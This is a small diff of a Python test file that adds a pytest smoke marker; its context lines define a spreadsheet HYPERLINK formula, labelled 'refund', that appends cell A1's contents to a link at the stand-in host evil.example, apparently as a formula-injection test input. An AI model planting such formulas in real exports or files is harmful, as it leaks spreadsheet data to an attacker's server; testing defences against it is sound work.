@@ -24,6 +24,8 @@ from mutuals.storage.store import SqlStore
 from tests.support.databases import START, fresh_store
 from tests.support.values import ANA, BRAND, action
 
+pytestmark = pytest.mark.smoke
+
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"refund")'
 
